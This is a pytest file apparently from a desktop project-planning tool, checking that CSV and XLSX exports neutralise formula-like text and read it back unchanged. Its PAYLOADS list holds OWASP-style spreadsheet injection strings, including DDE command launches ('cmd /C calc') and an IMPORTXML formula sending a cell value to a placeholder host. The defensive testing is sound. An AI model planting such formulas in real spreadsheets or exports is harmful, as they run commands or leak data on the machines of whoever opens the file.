"""CSV injection (OWASP): formula-like text is written inert and read back exactly."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from tests.support.builders import save_new
from tpm_desktop.cli.main import main
from tpm_desktop.core.defaults import new_project_state
from tpm_desktop.core.edits import touchpoints
from tpm_desktop.core.project_file import OpenProject, read_project
from tpm_desktop.reports.cell_safety import neutralised, restored
from tpm_desktop.reports.table_writer import write_table
from tpm_desktop.reports.tabular import read_table

# From the OWASP CSV injection page and its usual test lists.
PAYLOADS = [
    '=HYPERLINK("http://x","click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "-2",
    "'=1+1",
    "''double",
    "'plain apostrophe",
    'DDE("cmd";"/C calc";"!A0")A0',
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_neutralised_then_restored_is_the_same_text(text):
    written = neutralised(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restored(written) == text


def test_hand_made_apostrophes_and_numbers_stay_as_they_are():
    assert restored("'abc") == "'abc"  # not one of ours: kept
    assert neutralised(-5.0) == -5.0 and neutralised(None) is None
    assert neutralised("Hotline") == "Hotline"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_tables_never_hold_a_formula(tmp_path, suffix):
    path = tmp_path / f"t{suffix}"
    write_table(path, ["=Header", "Value"], [[p, -3.5] for p in PAYLOADS])
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [row[0] for row in csv.reader(handle, delimiter=";")]
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
        assert cells[1] == "'" + PAYLOADS[0]
    else:
        sheet = openpyxl.load_workbook(path).active
        types = {cell.data_type for row in sheet.iter_rows() for cell in row[:1]}
        assert types == {"s"}  # never "f": no formula
        assert sheet["B2"].value == -3.5 and sheet["B2"].data_type == "n"
    table = read_table(path)
    assert table.headers[0] == "=Header"
    expected = [p.replace("\r", "\n") if suffix == ".xlsx" else p for p in PAYLOADS]
    assert [row[0] for row in table.rows] == expected


def names_of(path) -> list[str]:
    return sorted(t.name for t in read_project(path).touchpoints.values())


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_gives_the_same_names_and_the_same_file(tmp_path, capsys, suffix):
    source = tmp_path / "source.tpm"
    save_new(source, new_project_state("en"))
    project = OpenProject.open(source)
    names = [p for p in PAYLOADS if "\t" not in p and "\r" not in p]  # names are one line
    for name in names:
        changes, _ = touchpoints.add_touchpoint(
            project.state, name, 1, 1, 1, description=name, responsible="@team"
        )
        project.commit(changes)
    project.save()
    project.close()
    first = tmp_path / f"first{suffix}"
    assert main(["export", str(source), str(first)]) == 0
    target = tmp_path / "target.tpm"
    save_new(target, new_project_state("en"))
    assert main(["import", str(target), str(first)]) == 0
    assert names_of(target) == sorted(names)
    state = read_project(target)
    assert {t.responsible for t in state.touchpoints.values()} == {"@team"}
    assert {t.description for t in state.touchpoints.values()} == set(names)
    second = tmp_path / f"second{suffix}"
    assert main(["export", str(target), str(second)]) == 0
    capsys.readouterr()
    if suffix == ".csv":
        assert second.read_bytes() == first.read_bytes()
    else:
        assert read_table(second).rows == read_table(first).rows
